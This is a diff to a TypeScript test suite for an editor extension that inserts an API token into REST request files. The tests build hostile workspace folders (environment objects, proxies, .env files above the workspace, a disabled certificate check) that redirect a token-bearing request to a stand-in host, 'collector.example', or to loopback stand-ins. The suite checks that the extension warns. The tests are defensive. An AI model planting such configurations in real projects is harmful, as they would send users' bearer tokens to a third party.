@@ -1,8 +1,14 @@
 // The shapes of issue 41's review, each beside its twin on the service (a table, on real folders): the hostile
 // one asks before Insert writes the token and keeps the warning on Send; the twin inserts with no question and
 // is not warned. The folder is read as the extension reads it (system/folderEnvironments.ts), the file by
-// the allow-list (core/restFile/requestShape.ts), the variables by httpYac's scope.
+// the allow-list (core/restFile/requestShape.ts), the variables by httpYac's scope. Issue 50's shapes are sent
+// by httpYac's engine too, to loopback stand-ins for the service and another site.
 import * as assert from 'node:assert/strict';
+import * as https from 'node:https';
+import type { AddressInfo } from 'node:net';
+import * as httpyac from 'httpyac';
+import { countingServer, type CountingServer } from '../support/countingServer';
+import { makeTestCa } from '../support/testCa';
 import { sampleText } from '../../src/core/platform/sample';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
@@ -24,36 +30,47 @@ const READ = 'Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}';
 interface Folder {
 	/** Files by path under the workspace folder; `=> target` makes a link. */
 	files: Record<string, string>;
+	/** Files in the folder that holds the workspace folder (httpYac looks up to the filesystem's root). */
+	above?: Record<string, string>;
 	/** The REST file's path under the workspace folder. */
 	at?: string;
 	/** Its text. */
 	text: string;
 }
 
-/** What Insert (header style, cursor on the first request) and the warnings would do with `folder`. */
-async function judge(folder: Folder, service = SERVICE): Promise<{ asks: boolean; warns: boolean }> {
-	const root = fs.mkdtempSync(path.join(os.tmpdir(), 'shapes-'));
+/** Lays `folder` out in a temporary folder (the workspace folder is its `ws`), runs `use`, and removes it. */
+async function laidOut<T>(folder: Folder, use: (paths: { root: string; httpFile: string }) => Promise<T>): Promise<T> {
+	const base = fs.mkdtempSync(path.join(os.tmpdir(), 'shapes-'));
+	const root = path.join(base, 'ws');
 	try {
-		for (const [name, content] of Object.entries(folder.files)) {
-			const file = path.join(root, name);
-			fs.mkdirSync(path.dirname(file), { recursive: true });
-			if (content.startsWith('=> ')) fs.symlinkSync(content.slice(3), file);
-			else fs.writeFileSync(file, content);
+		for (const [name, content] of [...Object.entries(folder.files).map(([n, c]) => [path.join(root, n), c] as const), ...Object.entries(folder.above ?? {}).map(([n, c]) => [path.join(base, n), c] as const)]) {
+			fs.mkdirSync(path.dirname(name), { recursive: true });
+			if (content.startsWith('=> ')) fs.symlinkSync(content.slice(3), name);
+			else fs.writeFileSync(name, content);
 		}
 		const httpFile = path.join(root, folder.at ?? 'requests.http');
 		fs.mkdirSync(path.dirname(httpFile), { recursive: true });
 		fs.writeFileSync(httpFile, folder.text);
-		const { environments, outside } = await readFolderEnvironments(httpFile, root);
-		const file = parseRestFile(folder.text);
-		const variables = withEnvironments(variableReadings(file), environments, globalNames(file));
-		const destinations = requestDestinations(file, requestsReached(file, { requests: [file.requests[0]!] }), variables, outside);
-		let asks = destinations.length === 0;
-		for (const { host } of destinations) asks = asks || host === undefined || !(await isSameSite(host, service));
-		const sends = await foreignSends(folder.text, [{ ...ACCOUNT, serviceUrl: service }], [{ name: 'TELEMATICS_TOKEN', accountId: 'user' }], { file, jwts: findJwts(folder.text, file), variables, ...(outside !== undefined && { outside }) });
-		return { asks, warns: sends.length > 0 };
+		return await use({ root, httpFile });
 	} finally {
-		fs.rmSync(root, { recursive: true, force: true });
+		fs.rmSync(base, { recursive: true, force: true });
 	}
+}
+
+/** What Insert (header style, cursor on the first request) and the warnings would do with `folder`. */
+async function judge(folder: Folder, service = SERVICE): Promise<{ asks: boolean; warns: boolean }> {
+	return laidOut(folder, ({ root, httpFile }) => judgeAt(folder.text, httpFile, root, service));
+}
+
+async function judgeAt(text: string, httpFile: string, root: string, service: string): Promise<{ asks: boolean; warns: boolean }> {
+	const { environments, outside } = await readFolderEnvironments(httpFile, root);
+	const file = parseRestFile(text);
+	const variables = withEnvironments(variableReadings(file), environments, globalNames(file));
+	const destinations = requestDestinations(file, requestsReached(file, { requests: [file.requests[0]!] }), variables, outside);
+	let asks = destinations.length === 0;
+	for (const { host } of destinations) asks = asks || host === undefined || !(await isSameSite(host, service));
+	const sends = await foreignSends(text, [{ ...ACCOUNT, serviceUrl: service }], [{ name: 'TELEMATICS_TOKEN', accountId: 'user' }], { file, jwts: findJwts(text, file), variables, ...(outside !== undefined && { outside }) });
+	return { asks, warns: sends.length > 0 };
 }
 
 const request = (target: string, ...before: string[]) => [...before, `GET ${target}`, READ, ''].join('\n');
@@ -150,6 +167,151 @@ describe('the shapes of the review and their twins on the service (issue 41)', f
 		it(`${name}: the hostile folder asks and warns`, async () => assert.deepEqual(await judge(hostile), { asks: true, warns: true }));
 		it(`${name}: its twin inserts with no question and no warning`, async () => assert.deepEqual(await judge(twin), { asks: false, warns: false }));
 	}
+});
+
+/**
+ * The shapes of issue 50's review, built from the service's origin and another site's, so the same folder is
+ * judged against the service here and sent by httpYac to loopback stand-ins of both below. `proof`: how httpYac
+ * shows it (`http`: the hostile folder reaches the other site, the twin only the service; `tls`: below).
+ */
+function review50(svc: string, other: string): Array<[string, Folder, Folder, 'http' | 'tls']> {
+	const { protocol, host } = new URL(svc);
+	const otherHost = new URL(other).host;
+	const scoped = (target: string, definition: string) => `${request(`${target}/v1/a`)}\n###\n${definition}\n${request(`${target}/v1/b`)}`;
+	const prefixed = `${protocol}//{{prefix}}${host}/v1`;
+	return [
+		['an object in an environment: httpYac fills {{svc.url}} from it, whatever string another environment gives "svc.url"',
+			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svc: { url: other } }, prod: { 'svc.url': svc } } }) }, text: request('{{svc.url}}/v1') },
+			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svcUrl: svc }, prod: { svcUrl: svc } } }) }, text: request('{{svcUrl}}/v1') }, 'http'],
+		['an object in an environment, under a dotted name another request\'s region defines',
+			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svc: { url: other } } } }) }, text: scoped('{{svc.url}}', `@svc.url = ${svc}`) },
+			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svcUrl: svc } } }) }, text: scoped('{{svcUrl}}', `@svcUrl = ${svc}`) }, 'http'],
+		['a configuration above the workspace folder: a proxy in the .httpyac.json of the folder that holds it',
+			{ files: {}, above: { '.httpyac.json': JSON.stringify({ proxy: other }) }, text: request(`${svc}/v1`) },
+			{ files: {}, above: { '.httpyac.json': JSON.stringify({ environments: { $shared: { note: 'x' } } }) }, text: request(`${svc}/v1`) }, 'http'],
+		['a package.json above the workspace folder makes that folder httpYac\'s root: its .env fills a name the file scopes to another request',
+			{ files: {}, above: { 'package.json': '{"name": "mono"}', '.env': `host=${other}\n` }, text: scoped('{{host}}', `@host = ${svc}`) },
+			{ files: {}, above: { 'package.json': '{"name": "mono"}', '.env': `host=${svc}\n` }, text: scoped('{{host}}', `@host = ${svc}`) }, 'http'],
+		['an indented separator with a title names its region: its definitions are not global',
+			{ files: { '.env': `host=${other}\n` }, text: `  ### setup\n@host = ${svc}\n\n###\n${request('{{host}}/v1')}` },
+			{ files: { '.env': `host=${other}\n` }, text: `###\n@host = ${svc}\n\n###\n${request('{{host}}/v1')}` }, 'http'],
+		['an empty definition defines nothing in httpYac: the environment\'s value stands',
+			{ files: { '.env': `prefix=${otherHost}/\n` }, text: `@prefix =\n\n###\n${request(prefixed)}` },
+			{ files: { '.env': 'prefix=\n' }, text: `@prefix =\n\n###\n${request(prefixed)}` }, 'http'],
+		['a request option whose value is null (httpYac turns the certificate check off)',
+			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { request_rejectUnauthorized: null } } }) }, text: request(`${svc}/v1`) },
+			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { requestId: null } } }) }, text: request(`${svc}/v1`) }, 'tls'],
+	];
+}
+
+describe('the shapes of issue 50\'s review and their twins on the service', function () {
+	this.timeout(60_000);
+	for (const [name, hostile, twin] of review50(SERVICE, 'https://collector.example')) {
+		it(`${name}: the hostile folder asks and warns`, async () => assert.deepEqual(await judge(hostile), { asks: true, warns: true }));
+		it(`${name}: its twin inserts with no question and no warning`, async () => assert.deepEqual(await judge(twin), { asks: false, warns: false }));
+	}
+
+	it('an indented separator after a body ends the request: the next request, which reads the token, is another, and the warning names its site', async () => {
+		const text = `POST ${SERVICE}/v1\n${READ}\n\n{"a": 1}\n\t###\nGET https://collector.example/v1\n${READ}\n`;
+		assert.deepEqual(await judge({ files: {}, text }), { asks: false, warns: true });
+		assert.deepEqual(await judge({ files: {}, text: text.replace('collector.example', 'api.telematicssdk.com') }), { asks: false, warns: false });
+	});
+});
+
+describe('the folders above the workspace folder, up to the filesystem\'s root (issue 50)', () => {
+	const read = (folder: Folder, root?: 'none') => laidOut(folder, ({ root: ws, httpFile }) => readFolderEnvironments(httpFile, root === 'none' ? undefined : ws));
+
+	it('an env file there is read like one inside; a configuration that is code, or a link, makes the file not say', async () => {
+		const env = await read({ files: {}, above: { '.env': 'host=https://collector.example\n', 'env/.env': 'api=https://api.example\n' }, text: '' });
+		assert.deepEqual([env.outside, [...env.environments.keys()].sort()], [undefined, ['api', 'host']]);
+		assert.equal((await read({ files: {}, above: { 'httpyac.config.js': 'module.exports = {};' }, text: '' })).outside, 'an httpYac configuration (httpyac.config.js)');
+		assert.equal((await read({ files: {}, above: { 'package.json': '{"httpyac": {}}' }, text: '' })).outside, 'an httpyac section in package.json');
+		assert.match((await read({ files: {}, above: { '.env': '=> /etc/hostname' }, text: '' })).outside ?? '', /^\.env, which the check does not read/);
+	});
+
+	it('a file in no workspace folder: its folder and every one above it', async () => {
+		const env = await read({ files: { '.env': 'a=1\n' }, above: { '.env': 'host=https://collector.example\n' }, at: 'sub/requests.http', text: '' }, 'none');
+		assert.deepEqual([env.outside, [...env.environments.keys()].sort()], [undefined, ['a', 'host']]);
+	});
+});
+
+describe('the shapes of issue 50, sent by httpYac to loopback stand-ins for the service and another site', function () {
+	this.timeout(120_000);
+	let service: CountingServer;
+	let other: CountingServer;
+	let logLevel: httpyac.LogLevel | undefined;
+	const info = console.info;
+
+	before(async () => {
+		httpyac.cli.initFileProvider();
+		await httpyac.cli.initIOProvider();
+		logLevel = httpyac.io.log.options.level;
+		httpyac.io.log.options.level = httpyac.LogLevel.none;
+		console.info = () => undefined;
+		service = await countingServer('127.0.0.1');
+		other = await countingServer('127.0.0.2', service.port);
+	});
+	after(async () => {
+		console.info = info;
+		httpyac.io.log.options.level = logLevel;
+		await Promise.all([service.close(), other.close()]);
+	});
+
+	/** Sends the request Insert writes into (the file's first), as a person sends it from the editor, with httpYac. */
+	async function send(text: string, httpFile: string, root: string): Promise<void> {
+		const line = parseRestFile(text).requests[0]!.requestLine;
+		const file = await new httpyac.store.HttpFileStore().getOrCreate(httpFile, async () => text, 0, { workingDir: root });
+		const httpRegion = file.httpRegions.find((r) => r.request && r.symbol.startLine <= line && line <= r.symbol.endLine);
+		assert.ok(httpRegion, 'httpYac reads the request where the check does');
+		try {
+			await httpyac.send({ httpFile: file, httpRegion, logResponse: async () => undefined, config: { request: { timeout: 2_000 } } } as never);
+		} catch {
+			// a request httpYac cannot send reached nobody
+		} finally {
+			await httpyac.store.userSessionStore.reset();
+		}
+	}
+
+	for (const row of review50('http://127.0.0.1:1', 'http://127.0.0.2:1')) {
+		if (row[3] !== 'http') continue;
+		it(`${row[0]}: the check asks where httpYac reaches the other site, and not where it reaches the service only`, async () => {
+			const [, hostile, twin] = review50(`http://127.0.0.1:${service.port}`, `http://127.0.0.2:${other.port}`).find(([name]) => name === row[0])!;
+			for (const [folder, expected] of [[hostile, true], [twin, false]] as const) {
+				await laidOut(folder, async ({ root, httpFile }) => {
+					assert.deepEqual(await judgeAt(folder.text, httpFile, root, `http://127.0.0.1:${service.port}`), { asks: expected, warns: expected });
+					const before = { service: service.hits(), other: other.hits() };
+					await send(folder.text, httpFile, root);
+					assert.equal(other.hits() > before.other, expected, expected ? 'httpYac reached the other site' : 'httpYac reached no other site');
+					if (!expected) assert.ok(service.hits() > before.service, 'httpYac reached the service');
+				});
+			}
+		});
+	}
+
+	it('a request option whose value is null: httpYac sends to a server its certificate check would refuse, and the check asks', async () => {
+		const ca = makeTestCa(fs.mkdtempSync(path.join(os.tmpdir(), 'shapes-ca-')));
+		let hits = 0;
+		const server = https.createServer({ key: ca.key, cert: ca.cert }, (_req, res) => {
+			hits++;
+			res.writeHead(204).end();
+		});
+		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+		const svc = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
+		try {
+			const [, hostile, twin] = review50(svc, 'https://127.0.0.2:1').find(([, , , proof]) => proof === 'tls')!;
+			for (const [folder, expected] of [[hostile, true], [twin, false]] as const) {
+				await laidOut(folder, async ({ root, httpFile }) => {
+					assert.deepEqual(await judgeAt(folder.text, httpFile, root, svc), { asks: expected, warns: expected });
+					const before = hits;
+					await send(folder.text, httpFile, root);
+					assert.equal(hits > before, expected, expected ? 'httpYac sent with its certificate check off' : 'httpYac refused the certificate');
+				});
+			}
+		} finally {
+			await new Promise<void>((resolve) => server.close(() => resolve()));
+			fs.rmSync(ca.dir, { recursive: true, force: true });
+		}
+	});
 });
 
 describe('ordinary files get no new question (issue 41)', () => {
